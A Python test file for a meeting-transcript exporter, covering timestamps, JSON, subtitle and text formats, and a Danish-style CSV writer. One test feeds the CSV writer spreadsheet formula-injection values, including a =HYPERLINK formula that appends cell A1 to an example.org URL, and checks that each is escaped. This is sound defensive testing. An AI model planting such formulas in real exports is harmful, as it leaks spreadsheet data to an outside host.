"""One writer per format, on a hand-made transcript."""

import json

from medlyt.export import Transcript, get_writer, timestamp, write_csv
from meetings.records import Segment, Word

TRANSCRIPT = Transcript(
    id="abc",
    title="Opfølgning",
    duration_s=3725.5,
    model="base",
    segments=[
        Segment(1.0, 2.5, "Hvordan går det?", [Word(1.0, 1.6, "Hvordan", 0.9), Word(1.6, 2.5, "går det?", 0.8)]),
        Segment(3725.0, 3725.4, "Tak.", [Word(3725.0, 3725.4, "Tak.", 0.99)]),
    ],
)


def test_timestamps():
    assert timestamp(3725.4) == "01:02:05.400"
    assert timestamp(3725.4, ",") == "01:02:05,400"
    assert timestamp(-1) == "00:00:00.000"


def test_json_has_the_documented_shape():
    document = json.loads(get_writer("json")(TRANSCRIPT))
    assert document["meeting"] == {"id": "abc", "title": "Opfølgning", "duration_s": 3725.5, "model": "base",
                                   "model_sha256": None, "model_revision": None}
    assert document["segments"][0]["words"][1] == {"start": 1.6, "end": 2.5, "word": "går det?", "probability": 0.8,
                                                   "loudness_db": None, "speaker": None}
    assert document["speakers"] == [] and document["flags"] == [] and document["balance"] == {}


def test_srt_vtt_txt():
    assert get_writer("srt")(TRANSCRIPT) == (
        "1\n00:00:01,000 --> 00:00:02,500\nHvordan går det?\n\n2\n01:02:05,000 --> 01:02:05,400\nTak.\n"
    )
    assert get_writer("vtt")(TRANSCRIPT).startswith("WEBVTT\n\n00:00:01.000 --> 00:00:02.500\nHvordan går det?\n")
    assert get_writer("txt")(TRANSCRIPT) == "[00:00:01] Hvordan går det?\n[01:02:05] Tak.\n"


def test_csv_is_for_a_danish_spreadsheet_and_runs_no_formula():
    """Cells a spreadsheet would run (=, +, -, @, a leading tab) come out as text; the rest as said."""
    import csv
    import io

    hostile = ['=HYPERLINK("http://example.org/?q="&A1;"klik")', "+45 1234", "-2+3", "@SUM(A1)", "\t=1+1", "Ja, 2-3 gange."]
    t = Transcript(segments=[Segment(float(i), i + 0.5, text, speaker="S1") for i, text in enumerate(hostile)],
                   speakers=[{"id": "S1", "label": "=Borger", "role": "borger"}])
    written = write_csv(t)
    assert written.startswith("\ufeffStart;Slut;Taler;Rolle;Tekst\r\n")
    rows = list(csv.reader(io.StringIO(written.removeprefix("\ufeff")), delimiter=";"))[1:]
    assert [r[4] for r in rows] == ["'" + h for h in hostile[:5]] + ["Ja, 2-3 gange."]
    assert {r[2] for r in rows} == {"'=Borger"} and rows[0][:2] == ["00:00:00", "00:00:00"] and rows[3][3] == "borger"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
